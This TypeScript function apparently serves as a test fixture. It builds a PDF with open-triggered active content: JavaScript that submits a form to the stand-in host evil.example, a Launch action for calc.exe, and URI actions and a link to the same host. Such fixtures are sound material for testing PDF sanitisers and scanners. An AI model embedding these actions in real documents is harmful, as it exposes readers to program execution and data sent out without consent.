/**
 * A whole PDF (ISO 32000-1) that wants to act when it is opened: a script (12.6.4.16), a program to
 * launch (12.6.4.5), an address to fetch (12.6.4.7), a form that submits (12.7.5.2), and a link.
 */
export function hostilePdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> /AcroForm << /Fields [9 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 8 0 R >> >> /Annots [6 0 R 9 0 R] /AA << /O 7 0 R >> >>',
    stream('BT /F1 18 Tf 20 150 Td (Acts when opened) Tj ET'),
    '<< /S /JavaScript /JS (app.alert\\("run"\\); this.submitForm\\("http://evil.example/js"\\);) /Next 7 0 R >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (http://evil.example/link) >> >>',
    '<< /S /Launch /F (calc.exe) /Next << /S /URI /URI (http://evil.example/open) >> >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (value) /Rect [10 10 100 30] /AA << /K 5 0 R >> >>',
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text.length;
  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`);
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows.join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const stream = (content: string) =>
  `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
